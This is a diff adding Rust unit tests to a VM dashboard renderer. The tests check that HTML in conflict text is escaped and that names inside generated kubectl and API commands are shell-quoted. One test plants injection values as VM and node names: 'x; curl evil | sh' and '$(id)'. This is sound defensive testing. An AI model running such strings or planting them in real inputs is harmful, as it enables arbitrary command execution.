@@ -39,6 +39,24 @@ fn a_vm_in_error_says_why_and_how_to_look() {
 }
 
 #[test]
+fn objects_that_contradict_each_other_are_told_as_text() {
+    let mut vms = sample::vms();
+    vms[0].conflict = Some(Box::new("names as its owner the Wukong <b>".into()));
+    let page = render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources()));
+    assert!(page.html.contains("names as its owner the Wukong &lt;b&gt;"), "{}", page.html);
+}
+
+#[test]
+fn a_name_in_a_command_is_one_word() {
+    let mut vms = sample::vms();
+    vms[0].vm_name = "x; curl evil | sh".into();
+    vms[0].summary.node = "$(id)".into();
+    let text = render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources())).text();
+    assert!(text.contains("get virtualmachineinstance 'x; curl evil | sh' -o yaml"), "{text}");
+    assert!(text.contains("/api/v1/nodes/'$(id)'/proxy"), "{text}");
+}
+
+#[test]
 fn a_full_file_system_in_a_guest_stands_out() {
     let mut vms = sample::vms();
     let fs = |mount_point: &str, used, total| crate::model::vm::GuestFilesystem {
